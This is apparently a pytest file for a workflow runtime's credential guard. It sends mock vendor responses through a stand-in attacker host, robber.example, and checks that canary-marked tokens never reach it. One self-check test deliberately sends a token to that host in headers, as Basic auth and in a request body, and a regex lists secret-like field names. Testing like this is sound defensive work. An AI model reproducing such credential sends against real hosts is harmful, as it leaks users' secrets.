"""Whatever a vendor answers, nothing of a credential goes to another host: every recorded call, with answers of a robber."""

import asyncio
import base64
import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final
from urllib.parse import unquote, urlsplit

import pytest

from cli.testing.case import as_item, plan_of
from runtime.catalog import CATALOG
from runtime.contract import HttpResponse, NodeApiError
from runtime.hosts.local.host import LocalHost, run_local
from runtime.http.credential_hosts import Binding, CredentialHostError, binding
from runtime.http.oauth2_types import with_defaults
from runtime.integrations.descriptor import RequestSpec
from runtime.integrations.loader import descriptors, folders
from runtime.interpreter.run_info import RunInfo
from schemas.hosts import literal_hosts
from tests.conformance.wire import CLOCK, _export, _no_wait
from tests.conformance.wire_world import WireCapabilities, response

FILES: Final = sorted((Path(__file__).parents[1] / "conformance" / "vendors").glob("*.json"))
ROBBER: Final = "robber.example"
CANARY: Final = "CANARY4f1d"
SECRET: Final = re.compile(r"(?i)token|secret|passw|key|cookie")
URL: Final = re.compile(r"https?://[^/\s\"]+")
OPEN: Final = re.compile(r"\$credential\b")


class Robbed(WireCapabilities):
    """The world of a case, as a worker guards it, in which every answer leads to the robber."""

    def __init__(self, case: Mapping[str, Any], *, redirects: bool) -> None:
        super().__init__(case)
        self._redirects, self._opened = redirects, dict[str, Binding]()
        self.let_through, self.stolen = 0, list[str]()

    async def get(self, type_: str, item: int = 0, *, restricted: bool = False) -> Mapping[str, Any]:
        """Return the fields of the case with canaries in what is secret."""
        data = with_defaults(type_, _marked(await super().get(type_, item)))
        constants = literal_hosts(self._case["parameters"])
        self._opened[type_] = binding("acme", type_, type_, data, constants, restricted=restricted)
        return data

    async def request(self, method: str, url: str, **options: Any) -> HttpResponse:
        """Refuse what a worker refuses; otherwise answer with the way to the robber."""
        assert not options.get("follow_redirects", True), "a client follows redirects past the guard of its requests"
        if not options.get("bare"):
            for each in self._opened.values():
                try:
                    each.check(url)
                except CredentialHostError as error:
                    raise NodeApiError(str(error), http_code="CREDENTIAL_HOST") from error
        content = options.get("content")
        parts = (
            [each async for each in content]
            if content is not None and not isinstance(content, bytes)
            else [content or b""]
        )
        shown = "\n".join([unquote(url), *(f"{name}: {value}" for name, value in options.get("headers") or ())])
        if urlsplit(url).hostname == ROBBER:
            if CANARY in _legible(shown + b"".join(parts).decode("latin-1")) or "authorization:" in shown.lower():
                self.stolen.append(f"{method} {shown[:500]}")
            return response(method, url, {"json": {}})
        self.let_through += 1
        answer = await super().request(method, url, **options)
        if self._redirects:
            return HttpResponse(307, "", [("location", f"https://{ROBBER}/x")], b"", url)
        body = URL.sub(f"https://{ROBBER}", answer.body.decode("latin-1")).encode("latin-1")
        headers = [(name, URL.sub(f"https://{ROBBER}", value)) for name, value in answer.headers]
        return HttpResponse(answer.status, answer.reason, headers, body, url)


def _marked(data: Any, name: str = "") -> Any:
    if isinstance(data, Mapping):
        return {key: _marked(each, key) for key, each in data.items()}
    if isinstance(data, str) and SECRET.search(name) and "://" not in data and "BEGIN" not in data:
        return CANARY + data
    return data


def _legible(text: str) -> str:
    """Return a text with what is Base64 in it."""
    parts = [text]
    for each in re.findall(r"[A-Za-z0-9+/_=-]{16,}", text):
        try:
            parts.append(base64.b64decode(each + "==", altchars=b"-_").decode("latin-1"))
        except ValueError:
            continue
    return "\n".join(parts)


async def rob(node_type: str, case: Mapping[str, Any], *, redirects: bool) -> Robbed:
    """Run a case; how it ends does not matter."""
    world = Robbed(case, redirects=redirects)
    plan = plan_of(_export(node_type, case))
    host = LocalHost(CATALOG, world, clock=lambda: CLOCK, sleep=_no_wait)
    items = [as_item(each) for each in case.get("input") or [{}]]
    info = RunInfo(execution_id="1", mode="trigger", base_url="http://localhost:5678", resume_secret="x" * 32)
    try:
        async with asyncio.timeout(20):  # brief: a case that waits for a call never ends
            await run_local(plan, host, info, items, start=plan.step["Start"])
    except TimeoutError:
        pass  # a case that waits for a call
    return world


@pytest.mark.parametrize("redirects", [True, False], ids=["redirects", "addresses"])
@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
async def test_nothing_of_a_credential_goes_to_a_host_that_an_answer_names(path: Path, redirects: bool) -> None:
    """Redirects, addresses of next pages, of uploads and of files."""
    node_type = ".".join(path.stem.replace("__", "/").split(".")[:2])
    cases = [
        each
        for each in json.loads(path.read_text(encoding="utf-8"))
        if each.get("credentials") and each.get("requests")
    ]
    robbed = [await rob(node_type, each, redirects=redirects) for each in cases]
    assert [each for world in robbed for each in world.stolen] == []
    assert not cases or any(world.let_through for world in robbed), "no request left, so that nothing was tried"


async def test_a_credential_that_does_leave_is_seen() -> None:
    """The test above would see it."""
    world = Robbed({"parameters": {}, "credentials": {"x": {"token": "T"}}}, redirects=True)
    token = (await world.get("x"))["token"]
    world._opened.clear()
    basic = base64.b64encode(f"user:{token}".encode()).decode()
    for headers in ([("x-key", token)], [("x-key", basic)], [("Authorization", "x")]):
        await world.request("GET", f"https://{ROBBER}/", headers=headers, follow_redirects=False)
    await world.request("POST", f"https://{ROBBER}/", content=token.encode(), follow_redirects=False)
    assert len(world.stolen) == 4


def _specs(value: Any) -> Any:
    if isinstance(value, RequestSpec):
        yield value
    elif isinstance(value, Mapping):
        for each in value.values():
            yield from _specs(each)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from _specs(each)
    elif hasattr(value, "model_fields_set"):
        for name in type(value).model_fields:
            yield from _specs(getattr(value, name))


def test_a_request_that_says_it_carries_nothing_carries_nothing() -> None:
    """`bare` takes the guard of credentials away."""
    found = [spec for folder in folders() for each in descriptors(folder) for spec in _specs(each)]
    bare = [spec for spec in found if spec.bare]
    assert len(found) > 500
    assert bare
    assert [spec for spec in bare if OPEN.search(spec.model_dump_json())] == []
